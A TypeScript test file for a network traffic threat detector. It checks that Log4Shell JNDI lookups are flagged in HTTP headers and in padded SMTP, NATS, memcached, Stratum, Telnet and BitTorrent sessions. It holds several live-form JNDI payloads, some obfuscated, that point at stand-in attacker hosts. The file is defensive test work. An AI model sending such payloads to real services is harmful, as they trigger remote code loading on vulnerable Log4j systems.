// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the payloads are literal Log4j and shell lookups, not templates.
import { describe, expect, it } from 'vitest';
import type { Direction } from '#sidecar/events.ts';
import { bittorrent } from '#sidecar/protocols/bittorrent.ts';
import { memcached } from '#sidecar/protocols/memcached.ts';
import { nats } from '#sidecar/protocols/nats.ts';
import type { Protocol } from '#sidecar/protocols/protocol.ts';
import { smtp } from '#sidecar/protocols/smtp.ts';
import { stratum } from '#sidecar/protocols/stratum.ts';
import { telnet } from '#sidecar/protocols/telnet.ts';
import { log4shell } from '#sidecar/threats/log4shell.ts';
import {
  aria2PeerId,
  extendedHandshake,
  handshake,
  transmissionPeerId,
} from '#test/fixtures/protocols/bittorrent-bytes.ts';
import { httpRequest, runThreat } from './threat-factories.ts';

describe('log4shell', () => {
  it.each([
    '${jndi:ldap://evil.example/a}',
    '${${lower:j}ndi:${lower:l}dap://evil/x}',
    '${${::-j}${::-n}${::-d}${::-i}:rmi://evil/x}',
    '${${env:NaN:-j}ndi${env:NaN:-:}ldap://evil/x}',
    '$%7Bjndi:dns://evil/x%7D',
    '${\\u006a\\u006e\\u0064\\u0069:ldap://evil}',
  ])('flags %j in the User-Agent header', (payload) => {
    expect(runThreat(log4shell, [httpRequest('/', { headers: [['User-Agent', payload]] })])[0]?.threat).toBe(
      'log4shell',
    );
  });

  it.each([
    'We need to secure our LDAP: server',
    'jndi: "this is just a test"',
    'price is ${amount}',
    'Hello ${name}!',
  ])('does not flag %j', (value) => {
    expect(runThreat(log4shell, [httpRequest('/', { headers: [['X-Note', value]] })])).toEqual([]);
  });
});

/**
 * Operation details padded past the parsers' old bounds (ADR 36): each was cut (SMTP, NATS and memcached at 1 KiB,
 * Stratum at 256 characters, a Telnet line at 256 typed characters and its user at 64), so a lookup after padding was
 * never judged. Each session goes through the protocol's own parser, then the detector.
 */
describe('log4shell in operation details padded past their old bounds (ADR 36)', () => {
  const lookup = '${jndi:ldap://198.51.100.7/a}';
  const through = (protocol: Protocol, segments: readonly (readonly [Direction, string | Uint8Array])[]) => {
    const parser = protocol.createParser();
    const events = segments.flatMap(([direction, text], i) =>
      parser.parse(
        typeof text === 'string' ? Uint8Array.from(Buffer.from(text, 'latin1')) : text,
        direction,
        1_000 + i,
      ),
    );
    return runThreat(log4shell, events).map((hit) => hit.evidence.slice(0, 40));
  };
  const x = (n: number) => 'x'.repeat(n);

  it.each([
    [
      'an SMTP EHLO after 1100 characters',
      smtp,
      [
        ['to-client', '220 mx ESMTP\r\n'],
        ['to-server', `EHLO ${x(1100)}${lookup}\r\n`],
      ],
    ],
    [
      'an SMTP MAIL FROM parameter after 2000 characters',
      smtp,
      [
        ['to-client', '220 mx ESMTP\r\n'],
        ['to-server', `MAIL FROM:<a@b.example> X-PAD=${x(2000)} X-ID=${lookup}\r\n`],
      ],
    ],
    [
      'a NATS client name after 1100 characters',
      nats,
      [
        ['to-client', 'INFO {"server_id":"n1","version":"2.10.7","proto":1}\r\n'],
        [
          'to-server',
          `CONNECT {"name":"${x(1100)}${lookup}","lang":"java","version":"2.17.0","protocol":1}\r\n`,
        ],
      ],
    ],
    [
      'a memcached key after ten keys of 120 characters',
      memcached,
      [
        [
          'to-server',
          `get ${Array.from({ length: 10 }, (_, i) => `k${i}${x(120)}`).join(' ')} ${lookup}\r\n`,
        ],
      ],
    ],
    [
      'a Stratum miner agent after 300 characters',
      stratum,
      [['to-server', `{"id":1,"method":"mining.subscribe","params":["${x(300)}${lookup}"]}\n`]],
    ],
    [
      'a Telnet user name after 100 characters',
      telnet,
      [
        ['to-client', 'shop-db login: '],
        ['to-server', `${x(100)}${lookup}\r\n`],
      ],
    ],
    [
      'a Telnet user name after 300 characters',
      telnet,
      [
        ['to-client', 'shop-db login: '],
        ['to-server', `${x(300)}${lookup}\r\n`],
      ],
    ],
    [
      'a Telnet user name typed after 250 characters taken back',
      telnet,
      [
        ['to-client', 'shop-db login: '],
        ['to-server', `${x(250)}${'\b'.repeat(250)}${lookup}\r\n`],
      ],
    ],
  ] as const)('flags %s', (_name, protocol, segments) => {
    expect(through(protocol, segments)).toHaveLength(1);
  });

  /** A BitTorrent connection's handshakes, then the client's extended handshake (BEP 10) with `names` and `v`. */
  const extended = (names: readonly string[], v = 'Transmission 3.00') => [
    ['to-server', handshake(transmissionPeerId)] as const,
    ['to-client', handshake(aria2PeerId)] as const,
    ['to-server', extendedHandshake({ m: Object.fromEntries(names.map((n, i) => [n, i + 1])), v })] as const,
  ];
  const extensionNames = (count: number, length: number) =>
    Array.from({ length: count }, (_, i) => `ut_${String(i).padStart(2, '0')}${x(length - 5)}`);

  it.each([
    [
      'after five BitTorrent extension names of 60 characters',
      extended([...extensionNames(5, 60), `z${lookup}`]),
    ],
    ['in the 40th BitTorrent extension name', extended([...extensionNames(39, 8), `z${lookup}`])],
    ['in a BitTorrent extension name of 100 characters', extended([`z${x(68)}${lookup}`])],
    ['in a BitTorrent client name of 200 characters', extended(['ut_pex'], `${x(170)}${lookup}`)],
  ])('flags a lookup %s', (_name, segments) => {
    expect(through(bittorrent, segments)).toHaveLength(1);
  });

  it('leaves a BitTorrent extended handshake of 40 extensions and a long client name alone', () => {
    expect(through(bittorrent, extended(extensionNames(40, 30), `qBittorrent/4.6.2 ${x(300)}`))).toEqual([]);
  });

  it.each([
    [
      'a long SMTP DATA line and a long RCPT',
      smtp,
      [
        ['to-client', '220 mx ESMTP\r\n'],
        ['to-server', `MAIL FROM:<a@b.example>\r\nRCPT TO:<${x(1500)}@b.example>\r\nDATA\r\n`],
        ['to-client', '250 ok\r\n250 ok\r\n354 go\r\n'],
        ['to-server', `Subject: hi\r\n\r\n${'price is ${amount} '.repeat(300)}\r\n.\r\n`],
      ],
    ],
    [
      'a NATS subscription to a long subject',
      nats,
      [['to-server', `CONNECT {"name":"${x(1500)}","lang":"go"}\r\nSUB orders.${x(3000)} 1\r\n`]],
    ],
    [
      'a memcached get of many keys',
      memcached,
      [['to-server', `get ${Array.from({ length: 15 }, (_, i) => `session:${i}:${x(120)}`).join(' ')}\r\n`]],
    ],
    [
      'a Stratum agent of 1000 characters',
      stratum,
      [['to-server', `{"id":1,"method":"mining.subscribe","params":["cgminer/4.12 ${x(1000)}"]}\n`]],
    ],
    [
      'a Telnet user name of 300 characters',
      telnet,
      [
        ['to-client', 'login: '],
        ['to-server', `${x(300)}\r\n`],
      ],
    ],
  ] as const)('leaves %s alone', (_name, protocol, segments) => {
    expect(through(protocol, segments)).toEqual([]);
  });
});
